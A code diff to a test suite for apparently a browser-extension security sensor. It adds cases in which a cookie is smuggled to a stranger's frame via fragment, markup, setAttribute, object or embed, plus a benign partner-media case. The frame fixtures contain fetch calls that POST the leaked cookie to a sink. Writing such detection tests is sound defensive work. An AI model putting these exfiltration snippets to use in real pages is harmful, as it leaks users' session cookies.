@@ -909,12 +909,20 @@ describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
       'SAQ-EXF-001',
     ],
     ['stranger-frame-name', 'as its name', "fetch('/frame-sink', { method: 'POST', body: window.name });", 'SAQ-EXF-003'],
-    [
-      'stranger-frame-fragment',
-      "in its address's fragment, set once it is in the page",
+    ...(
+      [
+        ['stranger-frame-fragment', 'set once it is in the page'],
+        ['stranger-frame-markup', 'by markup'],
+        ['stranger-frame-attribute', 'by setAttribute'],
+        ['stranger-frame-object', "as an <object>'s data"],
+        ['stranger-frame-embed', "as an <embed>'s src"],
+      ] as const
+    ).map(([fixture, how]): [MainWorldScript, string, string, string] => [
+      fixture,
+      `in its address's fragment, ${how}`,
       "fetch('/frame-sink', { method: 'POST', body: decodeURIComponent(location.hash.slice(1)) });",
       'SAQ-EXF-003',
-    ],
+    ]),
   ];
   for (const [fixture, how, framePage, rule] of STRANGER_FRAMES)
     it(`catches the cookie handed to a stranger's frame ${how}`, async ({ task }) => {
@@ -944,6 +952,39 @@ describeEachBrowser('MAIN-world sensors: exfiltration', (context) => {
         "the frame's request with the cookie",
       );
     });
+
+  it("stays silent for the shop's own frames, object and embed showing another site's page", async ({ task }) => {
+    // The shop's own inline code, by each route the stranger-frame cases take: markup, setAttribute, data, src.
+    context.shop.setFixture(
+      '/kz/partner-media',
+      `<!doctype html><html lang="kk"><head><meta charset="utf-8"></head><body><div id="media"></div><script>
+const media = document.getElementById('media');
+media.insertAdjacentHTML('beforeend', '<iframe title="video" src="https://video.partner.example/embed/coin#t=5"></iframe>');
+const frame = document.createElement('iframe');
+media.append(frame);
+frame.setAttribute('src', 'https://maps.partner.example/nbk-branches');
+const object = document.createElement('object');
+object.type = 'text/html';
+media.append(object);
+object.data = 'https://video.partner.example/catalogue';
+const embed = document.createElement('embed');
+embed.type = 'text/html';
+embed.src = 'https://video.partner.example/player';
+media.append(embed);
+</script></body></html>`,
+    );
+    const saq = await browser();
+    const { tabId } = await visit(saq, '/kz/partner-media');
+    const noisy = await settleAndListLoud(saq, tabId);
+    recordCase(task, {
+      behaviour: BEHAVIOUR,
+      case: "shop's own frames showing another site's page",
+      malicious: false,
+      flagged: noisy.length > 0,
+      browser: browserName,
+    });
+    expect(describeVerdicts(noisy)).toEqual([]);
+  });
 
   it('stays silent for a payment form the shop posts to its payment provider', async ({ task }) => {
     context.shop.setFixture(
